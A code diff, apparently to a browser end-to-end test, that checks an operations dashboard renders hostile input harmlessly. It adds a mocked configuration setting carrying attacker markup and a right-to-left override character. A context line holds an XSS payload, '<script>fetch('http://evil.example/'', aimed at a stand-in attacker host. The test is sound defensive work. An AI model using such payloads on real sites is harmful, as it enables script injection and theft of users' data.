@@ -61,5 +61,15 @@ export async function hostile({ browser, url, folder }) {
   await page.getByTestId('command-row').first().waitFor();
   await until('the dead letter', async () => (await page.textContent('body')).includes("<script>fetch('http://evil.example/'"));
   await harmless(page, MARKUP);
-  await page.screenshot({ path: `${folder}/ops.png` });
+  // What somebody may have set, which the world here has not.
+  const settings = [{ key: 'kafka.bootstrap_servers', value: `${MARKUP}\u202e`.repeat(9), origin: { layer: 'file', path: MARKUP, line: 1 } }];
+  await page.route('**/api/ops/configuration', (route) => route.fulfill({ json: { settings } }));
+  await page.getByTestId('settings-show').click();
+  await page.getByTestId('setting-row').waitFor();
+  await harmless(page, MARKUP);
+  await accessible(page);
+  await page.setViewportSize({ width: 400, height: 800 });
+  const wide = await page.evaluate(() => document.documentElement.scrollWidth);
+  assert.ok(wide <= 400, `${wide} pixels on 400`);
+  await page.screenshot({ path: `${folder}/ops.png`, fullPage: true });
 }
